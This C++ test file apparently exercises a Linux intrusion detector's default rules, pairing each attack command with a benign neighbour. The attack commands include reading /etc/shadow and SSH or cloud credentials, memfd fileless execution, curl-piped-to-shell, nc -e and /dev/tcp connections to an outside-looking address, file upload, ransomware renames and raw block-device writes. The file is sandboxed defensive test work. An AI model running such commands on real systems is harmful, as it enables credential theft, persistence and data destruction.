// The default ruleset (rules/), rule by rule, on the host: one daemon, every
// attack performed for real (files in system directories created and
// removed again, real syscalls, real connections inside a private network
// namespace where an outside-looking address sits on the loopback), each
// next to a benign neighbour that must raise nothing at all.
#include <doctest/doctest.h>
#include <unistd.h>

#include <filesystem>

#include "default_rules.h"

using namespace pg::e2e;
using namespace pg::e2e::defaults;

namespace {

// Programs a host does not have, stood in for by a copy of /bin/true or a
// link to busybox under the same name: the kernel names a process after
// the file it executed, and these rules judge that name.
void make_tools(const std::string& t) {
  REQUIRE(sh("mkdir -p " + t + "/bin " + t + "/home/.ssh " + t + "/home/.aws " + t +
             "/home/.kube " + t + "/home/.mozilla/firefox/p.default " + t + "/home/.config " + t +
             "/h2 " + t + "/barrier") == 0);
  for (const char* n : {"nmap", "mapper", "modprobe", "xmrig", "xmr-notes", "chisel", "chiseled",
                        "reboot", "rebooted"})
    REQUIRE(sh(std::string("ln -sf /bin/true ") + t + "/bin/" + n) == 0);
  // Interpreters under an allowlisted name (the benign neighbours of the
  // injection rules).
  for (const char* n : {"gdb", "bpftool", "criu"})
    REQUIRE(sh(std::string("ln -sf /usr/bin/perl ") + t + "/bin/" + n) == 0);
  REQUIRE(sh("ln -sf /bin/busybox " + t + "/bin/nc") == 0);
  // proc.exepath resolves links: a real copy, to run from an unusual path.
  REQUIRE(sh("cp /bin/true " + t + "/bin/sshd && cp /bin/true " + t + "/bin/mydaemon") == 0);
  const std::string home = t + "/home";
  for (const char* f :
       {"/.ssh/id_ed25519", "/.ssh/id_ed25519.pub", "/.aws/credentials", "/.aws/notes",
        "/.kube/config", "/.kube/cache-notes", "/.mozilla/firefox/p.default/logins.json",
        "/.mozilla/firefox/p.default/prefs.js", "/.ssh/authorized_keys"})
    write_file(home + f, "data\n");
  for (const char* f : {"/r1", "/r2", "/f-old", "/plain", "/upload"}) write_file(t + f, "x\n");
  REQUIRE(sh("cp /bin/true " + t + "/suid && cp /bin/true " + t + "/capbin") == 0);
  REQUIRE(sh("dd if=/dev/zero of=" + t + "/disk.img bs=64k count=16 status=none") == 0);
  write_file(t + "/bin/nginx", "#!/bin/sh\n/bin/sh -c 'true; true'\n", true);
  write_file(t + "/bin/webhook", "#!/bin/sh\n/bin/sh -c 'true; true'\n", true);
}

// A perl listener on every port named, in the current network namespace;
// the handshake completes in the kernel's backlog, no accept needed.
const char* kListen =
    "perl -MIO::Socket::INET -e 'for (@ARGV) { push @s, IO::Socket::INET->new(LocalAddr => "
    "\"0.0.0.0\", LocalPort => $_, Listen => 16, ReuseAddr => 1) or die \"listen $_: $!\\n\" } "
    "sleep 30' ";
std::string perl_connect(const std::string& where) {
  return "perl -MIO::Socket::INET -e 'IO::Socket::INET->new(PeerAddr => $ARGV[0], Timeout => "
         "2)' " +
         where;
}

// A script run in a private network namespace: the loopback carries
// 203.0.113.5 (an outside-looking address) and the metadata address.
std::string in_netns(const std::string& t, const std::string& name, const std::string& body) {
  const std::string path = t + "/" + name + ".sh";
  write_file(path,
             "ip link set lo up\n"
             "ip addr add 203.0.113.5/32 dev lo\n"
             "ip addr add 169.254.169.254/32 dev lo\n" +
                 std::string(kListen) +
                 "22 80 2222 2227 2228 3333 8022 8081 9050 9060 & lp=$!\n"
                 "sleep 0.4\n" +
                 body + "\nkill $lp\n");
  return "unshare -n sh " + path + " >/dev/null 2>&1";
}

std::string pid_tag() { return std::to_string(getpid()); }

}  // namespace

TEST_CASE("default rules on the host: each attack fires its rule, each benign neighbour is quiet") {
  TempDir dir;
  const std::string t = dir.path, home = t + "/home", id = pid_tag();
  make_tools(t);
  const std::string loopdev = [&] {
    std::string s = run_capture("losetup -f --show " + t + "/disk.img");
    while (!s.empty() && s.back() == '\n') s.pop_back();
    return s;
  }();
  REQUIRE_MESSAGE(loopdev.starts_with("/dev/loop"), "losetup failed: " << loopdev);
  // Files the log rules act on, made before the daemon starts.
  const std::string log = "/var/log/pg-e2e-" + id + ".log", log_a = log + ".a", log_b = log + ".b";
  REQUIRE(sh("echo line >> " + log + " && echo line >> " + log_a + " && echo line >> " + log_b) ==
          0);
  const bool had_preload = access("/etc/ld.so.preload", F_OK) == 0;
  const bool had_sudoers_d = access("/etc/sudoers.d", F_OK) == 0;
  const bool had_sshd_d = access("/etc/ssh/sshd_config.d", F_OK) == 0;
  REQUIRE(sh("mkdir -p /etc/sudoers.d /etc/ssh/sshd_config.d /boot " + t + "/cg") == 0);
  const std::string memfd_exec =
      "perl -e 'my $n = \"pg-payload\"; my $fd = syscall(319, $n, 0); die if $fd < 0; "
      "open(my $m, \">&=\", $fd) or die; open(my $t, \"<\", \"/bin/true\") or die; "
      "binmode $t; local $/; my $d = <$t>; syswrite($m, $d) == length($d) or die; "
      "exec {\"/proc/self/fd/$fd\"} \"pg-payload\"'";
  const std::string cg = t + "/cg";
  const std::string cgroup_v1 = "mount -t cgroup -o none,name=pge2e" + id + " cgroup " + cg;

  const std::vector<RuleCase> cases = {
      // ---- credential access
      {"Credential file read by unexpected program", "cat /etc/shadow >/dev/null",
       "cat /etc/hostname >/dev/null", "/etc/shadow"},
      {"SSH private key read by unexpected program", "cat " + home + "/.ssh/id_ed25519",
       "cat " + home + "/.ssh/id_ed25519.pub", home + "/.ssh/id_ed25519"},
      {"Cloud or service credentials read by unexpected program",
       "cat " + home + "/.aws/credentials", "cat " + home + "/.aws/notes",
       home + "/.aws/credentials"},
      {"Kubernetes credentials read by unexpected program", "cat " + home + "/.kube/config",
       "cat " + home + "/.kube/cache-notes", home + "/.kube/config"},
      {"Browser or keyring secrets read by unexpected program",
       "cat " + home + "/.mozilla/firefox/p.default/logins.json",
       "cat " + home + "/.mozilla/firefox/p.default/prefs.js", "logins.json"},
      {"Process memory opened through procfs", "cat /proc/self/mem >/dev/null 2>&1",
       "cat /proc/self/status >/dev/null", "/mem"},
      {"Another process's memory read with process_vm_readv",
       "perl -e 'syscall(310, $$, 0, 0, 0, 0, 0)'",
       t + "/bin/gdb -e 'syscall(310, $$, 0, 0, 0, 0, 0)'", "process=perl"},
      {"Credentials searched for with find or grep", "find " + t + "/home -name id_rsa",
       "find " + t + "/home -name notes.txt", "-name id_rsa"},
      // ---- persistence
      {"Cron job created or changed",
       "echo '# pg' > /etc/cron.d/pg-e2e-" + id + "; rm -f /etc/cron.d/pg-e2e-" + id,
       "ls /etc/cron.d >/dev/null", "/etc/cron.d/pg-e2e-" + id},
      {"Systemd unit created or changed",
       "echo '[Unit]' > /etc/systemd/system/pg-e2e-" + id +
           ".service; rm -f /etc/systemd/system/pg-e2e-" + id + ".service",
       "echo x > " + t + "/pg.service", "/etc/systemd/system/pg-e2e-" + id},
      {"SSH authorized_keys modified",
       "echo 'ssh-ed25519 AAAA pg' >> " + home + "/.ssh/authorized_keys",
       "echo 'host key' >> " + home + "/.ssh/known_hosts", home + "/.ssh/authorized_keys"},
      {"Shell startup file modified", "echo 'alias ls=true' >> " + home + "/.bashrc",
       "echo 'alias ls=true' >> " + home + "/bashrc.bak", home + "/.bashrc"},
      {"Dynamic linker preload file written", ": >> /etc/ld.so.preload",
       "cat /etc/ld.so.conf >/dev/null", "/etc/ld.so.preload"},
      {"Dynamic linker search path changed",
       "echo '# pg' > /etc/ld.so.conf.d/pg-e2e-" + id + ".conf; rm -f /etc/ld.so.conf.d/pg-e2e-" +
           id + ".conf",
       "ls /etc/ld.so.conf.d >/dev/null", "/etc/ld.so.conf.d/pg-e2e-" + id},
      {"Init or login script written",
       "echo '#!/bin/sh' > /etc/init.d/pg-e2e-" + id + "; rm -f /etc/init.d/pg-e2e-" + id,
       "ls /etc/init.d >/dev/null", "/etc/init.d/pg-e2e-" + id},
      {"Account database modified directly", ": >> /etc/passwd", "cat /etc/passwd >/dev/null",
       "file=/etc/passwd"},
      {"Local account created",
       "useradd -M -N -r -s /usr/sbin/nologin pg-e2e-" + id + " && userdel pg-e2e-" + id,
       "useradd --help >/dev/null", "pg-e2e-" + id},
      {"Boot loader or kernel image written",
       "echo x > /boot/pg-e2e-" + id + "; rm -f /boot/pg-e2e-" + id, "ls /boot >/dev/null",
       "/boot/pg-e2e-" + id},
      {"System binary directory written",
       "cp /bin/true /usr/local/bin/pg-e2e-" + id + "; rm -f /usr/local/bin/pg-e2e-" + id,
       "cat /bin/true >/dev/null", "/usr/local/bin/pg-e2e-" + id},
      {"Shared library written below a system library directory",
       "echo x > /usr/local/lib/libpg-e2e-" + id + ".so; rm -f /usr/local/lib/libpg-e2e-" + id +
           ".so",
       "echo x > /usr/local/lib/pg-e2e-" + id + ".txt; rm -f /usr/local/lib/pg-e2e-" + id + ".txt",
       "/usr/local/lib/libpg-e2e-" + id + ".so"},
      {"PAM configuration changed",
       "echo '# pg' > /etc/pam.d/pg-e2e-" + id + "; rm -f /etc/pam.d/pg-e2e-" + id,
       "ls /etc/pam.d >/dev/null", "/etc/pam.d/pg-e2e-" + id},
      {"SSH server configuration changed",
       "echo '# pg' > /etc/ssh/sshd_config.d/pg-e2e-" + id +
           ".conf; rm -f /etc/ssh/sshd_config.d/pg-e2e-" + id + ".conf",
       "cat /etc/ssh/ssh_config >/dev/null", "/etc/ssh/sshd_config.d/pg-e2e-" + id},
      {"Kernel module autoload configured",
       "echo '# pg' > /etc/modules-load.d/pg-e2e-" + id +
           ".conf; rm -f /etc/modules-load.d/pg-e2e-" + id + ".conf",
       "ls /etc/modules-load.d >/dev/null", "/etc/modules-load.d/pg-e2e-" + id},
      {"Package manager hook added",
       "echo '// pg' > /etc/apt/apt.conf.d/99pg-e2e-" + id +
           "; rm -f /etc/apt/apt.conf.d/99pg-e2e-" + id,
       "ls /etc/apt/apt.conf.d >/dev/null", "/etc/apt/apt.conf.d/99pg-e2e-" + id},
      {"Desktop autostart entry created",
       "mkdir -p " + home + "/.config/autostart && echo '[Desktop Entry]' > " + home +
           "/.config/autostart/pg.desktop",
       "mkdir -p " + home + "/.local/share/applications && echo '[Desktop Entry]' > " + home +
           "/.local/share/applications/pg.desktop",
       "autostart/pg.desktop"},
      // ---- privilege escalation
      {"Setuid or setgid bit set on a file", "chmod u+s " + t + "/suid",
       "chmod 755 " + t + "/plain", "S_ISUID"},
      {"File capabilities granted with setcap", "setcap cap_net_raw+ep " + t + "/capbin",
       "getcap " + t + "/capbin >/dev/null", "setcap cap_net_raw+ep"},
      {"Sudoers configuration changed",
       "echo '# pg' > /etc/sudoers.d/pg-e2e-" + id + "; rm -f /etc/sudoers.d/pg-e2e-" + id,
       "echo '# pg' > " + t + "/sudoers-notes", "/etc/sudoers.d/pg-e2e-" + id},
      {"Cgroup release_agent written",
       cgroup_v1 + " && echo > " + cg + "/release_agent; umount " + cg,
       cgroup_v1 + " && cat " + cg + "/release_agent >/dev/null; umount " + cg, "release_agent"},
      {"Kernel module load tool run", t + "/bin/modprobe pg_e2e_dummy",
       t + "/bin/modprobe -r pg_e2e_dummy", "modprobe pg_e2e_dummy"},
      {"BPF program loaded by unexpected program", "perl -e 'syscall(321, 5, 0, 0)'",
       t + "/bin/bpftool -e 'syscall(321, 5, 0, 0)'", "process=perl"},
      {"Process attached to with ptrace",
       "sleep 3 & p=$!; perl -e 'syscall(101, 16, $ARGV[0], 0, 0)' $p; kill -9 $p",
       "sleep 3 & p=$!; " + t + "/bin/gdb -e 'syscall(101, 16, $ARGV[0], 0, 0)' $p; kill -9 $p",
       "PTRACE_ATTACH"},
      {"Another process's memory written with process_vm_writev",
       "perl -e 'syscall(311, $$, 0, 0, 0, 0, 0)'",
       t + "/bin/gdb -e 'syscall(311, $$, 0, 0, 0, 0, 0)'", "process=perl"},
      {"Unprivileged process asked to become root",
       "setpriv --reuid=65534 --regid=65534 --clear-groups perl -e 'syscall(105, 0)'",
       "setpriv --reuid=65534 --regid=65534 --clear-groups perl -e 'syscall(105, 65534)'",
       "process=perl"},
      {"userfaultfd used by unexpected program", "perl -e 'syscall(323, 0)'",
       t + "/bin/criu -e 'syscall(323, 0)'", "process=perl"},
      // ---- defense evasion
      {"Log file truncated", ": > " + log, "echo more >> " + log, log},
      {"Log file deleted", "rm -f " + log_a, "echo x > " + t + "/x.log; rm -f " + t + "/x.log",
       log_a},
      {"Log file deleted through unlink", "perl -e 'unlink $ARGV[0]' " + log_b,
       "echo x > " + t + "/y.log; perl -e 'unlink $ARGV[0]' " + t + "/y.log", log_b},
      {"Shell history cleared", ": > " + home + "/.bash_history", ": > " + home + "/history.txt",
       home + "/.bash_history"},
      {"Shell history linked to /dev/null", "ln -s /dev/null " + t + "/h2/.bash_history",
       "ln -s /dev/null " + t + "/h2/devnull-link", t + "/h2/.bash_history"},
      {"Shell started with history disabled", "env HISTFILE=/dev/null bash -c true",
       "env HISTFILE=" + t + "/hist bash -c true", "command=bash -c true"},
      {"Fileless program executed from memory", memfd_exec, "perl -e 'exec \"/bin/true\"'",
       "memfd:pg-payload"},
      {"Program executed from a memory-backed directory",
       "cp /bin/true /dev/shm/pg-e2e-" + id + " && /dev/shm/pg-e2e-" + id +
           "; rm -f /dev/shm/pg-e2e-" + id,
       "/bin/true", "/dev/shm/pg-e2e-" + id},
      {"Library preloaded through LD_PRELOAD",
       "LD_PRELOAD=/lib/x86_64-linux-gnu/libc.so.6 bash -c 'true pg-preload'",
       "bash -c 'true pg-preload'", "pg-preload"},
      {"Process disguised as a kernel thread", "bash -c \"exec -a '[kworker/0:1]' /bin/true\"",
       "bash -c \"exec -a mytrue /bin/true\"", "[kworker/0:1]"},
      {"System program name run from an unusual path", t + "/bin/sshd", t + "/bin/mydaemon",
       t + "/bin/sshd"},
      {"File timestamps forged with touch", "touch -d 2001-01-01 " + t + "/f-old",
       "touch " + t + "/f-new", "touch -d 2001-01-01"},
      {"Audit or security service disabled", "systemctl stop auditd >/dev/null 2>&1",
       "systemctl status auditd >/dev/null 2>&1", "systemctl stop auditd"},
      {"Detector process signalled by name", "pkill -0 -f peregrine-e2e-none-" + id,
       "pkill -0 -f pg-e2e-none-" + id, "pkill -0 -f peregrine-e2e-none"},
      {"Detector filter maps removed",
       "mkdir /sys/fs/bpf/peregrine/pg-e2e-" + id + " && rm -d /sys/fs/bpf/peregrine/pg-e2e-" + id,
       "mkdir " + t + "/bpfx && rm -d " + t + "/bpfx", "/sys/fs/bpf/peregrine/pg-e2e-" + id},
      {"Firewall rules flushed", "unshare -n iptables -F >/dev/null 2>&1",
       "unshare -n iptables -L -n >/dev/null 2>&1", "iptables -F"},
      {"Hidden directory created in shared memory or a system directory",
       "mkdir /dev/shm/.pg-e2e-" + id + " && rmdir /dev/shm/.pg-e2e-" + id,
       "mkdir /dev/shm/pg-e2e-" + id + "-visible && rmdir /dev/shm/pg-e2e-" + id + "-visible",
       "/dev/shm/.pg-e2e-" + id},
      {"Encoded payload decoded into a shell", "sh -c 'echo dHJ1ZQo= | base64 -d | sh'",
       "sh -c 'echo dHJ1ZQo= | base64 -d >/dev/null'", "base64 -d | sh"},
      // ---- discovery and lateral movement
      {"Network scanner run", t + "/bin/nmap -sT 127.0.0.1", t + "/bin/mapper -sT 127.0.0.1",
       "nmap -sT"},
      {"Kernel symbol table read", "head -c 64 /proc/kallsyms >/dev/null",
       "cat /proc/version >/dev/null", "/proc/kallsyms"},
      {"Shell spawned by a network service", t + "/bin/nginx", t + "/bin/webhook", "service=nginx"},
      // ---- command and control, exfiltration
      {"Netcat-like tool started with command execution",
       t + "/bin/nc -e /bin/true 127.0.0.1 9 >/dev/null 2>&1", t + "/bin/nc -h >/dev/null 2>&1",
       "nc -e /bin/true"},
      {"Cryptocurrency miner started", t + "/bin/xmrig -o pool:3333", t + "/bin/xmr-notes",
       "xmrig -o pool"},
      {"Tunneling tool started", t + "/bin/chisel client", t + "/bin/chiseled client",
       "chisel client"},
      {"Download piped into a shell", "sh -c 'curl -s -m 1 http://127.0.0.1:9/x | sh'",
       "sh -c 'curl -s -m 1 http://127.0.0.1:9/x >/dev/null'", "http://127.0.0.1:9/x | sh"},
      {"Data uploaded with a command-line HTTP client",
       "curl -s -m 1 -T " + t + "/upload http://127.0.0.1:9/", "curl -s -m 1 http://127.0.0.1:9/",
       "-T " + t + "/upload"},
      {"Raw packet socket opened", "perl -e 'socket(my $s, 17, 3, 0)'",
       "perl -e 'socket(my $s, 2, 1, 0)'", "process=perl"},
      {"Sensitive files archived", "tar -C " + home + " -cf " + t + "/a.tar .ssh",
       "tar -C " + home + " -cf " + t + "/b.tar .config", "a.tar .ssh"},
      // ---- impact
      {"Secure deletion tool run", "shred -u " + t + "/r1", "rm -f " + t + "/r2", "shred -u"},
      {"File renamed to a ransomware extension",
       "echo x > " + t + "/r3 && mv " + t + "/r3 " + t + "/r3.locked",
       "echo x > " + t + "/r4 && mv " + t + "/r4 " + t + "/r4.bak", "r3.locked"},
      {"File written with a ransomware extension", "echo x > " + t + "/r5.encrypted",
       "echo x > " + t + "/r5.txt", "r5.encrypted"},
      {"Ransom note written", "echo pay > " + t + "/HOW_TO_DECRYPT.txt",
       "echo notes > " + t + "/HOWTO.txt", "HOW_TO_DECRYPT.txt"},
      {"System shutdown or reboot requested", t + "/bin/reboot now", t + "/bin/rebooted now",
       "reboot now"},
      {"Block device written directly",
       "dd if=/dev/zero of=" + loopdev + " bs=4k count=1 conv=notrunc status=none",
       "dd if=" + loopdev + " of=/dev/null bs=4k count=1 status=none", loopdev},
  };

  // Connections, each inside its own private network namespace.
  const std::string net_benign =
      in_netns(t, "net-benign",
               "curl -s -m 1 -o /dev/null http://127.0.0.1:80/\n" +
                   perl_connect("203.0.113.5:8022") + "\n" + perl_connect("203.0.113.5:2222") +
                   "\n" + "busybox nc -l -p 2226 & bp=$!; sleep 0.2; kill $bp\n" +
                   perl_connect("203.0.113.5:8081") + "\n" + perl_connect("203.0.113.5:9060") +
                   "\n" + "bash -c '/bin/true </dev/null >/dev/null'");
  const std::string net_attack =
      in_netns(t, "net-attack",
               "curl -s -m 1 -o /dev/null http://169.254.169.254/latest/meta-data/\n" +
                   perl_connect("203.0.113.5:22") + "\n" + "timeout 1 " + t +
                   "/bin/nc 203.0.113.5 2222 </dev/null\n" + t +
                   "/bin/nc -l -p 2225 & np=$!; sleep 0.3; kill $np\n" +
                   "bash -c 'exec 3<>/dev/tcp/203.0.113.5/2227'\n" +
                   "bash -c 'exec 3<>/dev/tcp/203.0.113.5/2228; /bin/true <&3 >&3'\n" +
                   perl_connect("203.0.113.5:3333") + "\n" + perl_connect("203.0.113.5:9050"));
  std::vector<RuleCase> all = cases;
  const std::vector<RuleCase> net_cases = {
      {"Cloud metadata endpoint contacted", "", "", "169.254.169.254:80"},
      {"Non-SSH program connected to an SSH port", "", "", "203.0.113.5:22"},
      {"Netcat-like tool connected out", "", "", "203.0.113.5:2222"},
      {"Netcat-like tool listening", "", "", "process=nc"},
      {"Shell connected to the network", "", "", "203.0.113.5:2227"},
      {"Standard input or output redirected to a socket", "", "", "203.0.113.5:2228"},
      {"Connection to a mining pool port", "", "", "203.0.113.5:3333"},
      {"Connection to a Tor port", "", "", "203.0.113.5:9050"},
  };
  all.insert(all.end(), net_cases.begin(), net_cases.end());

  auto daemon = start_daemon(daemon_args());
  Daemon& d = *daemon;
  const int fired = run_table(d, all,
                              {"find " + t + "/barrier -name id_rsa",
                               "Credentials searched for with find or grep", t + "/barrier"},
                              net_benign, net_attack);
  CHECK(d.stop() == 0);
  CHECK(fired == static_cast<int>(all.size()));

  sh("losetup -d " + loopdev);
  sh("rm -f " + log + " " + log_a + " " + log_b);
  if (!had_preload) sh("rm -f /etc/ld.so.preload");
  if (!had_sudoers_d) sh("rmdir /etc/sudoers.d");
  if (!had_sshd_d) sh("rmdir /etc/ssh/sshd_config.d");
}
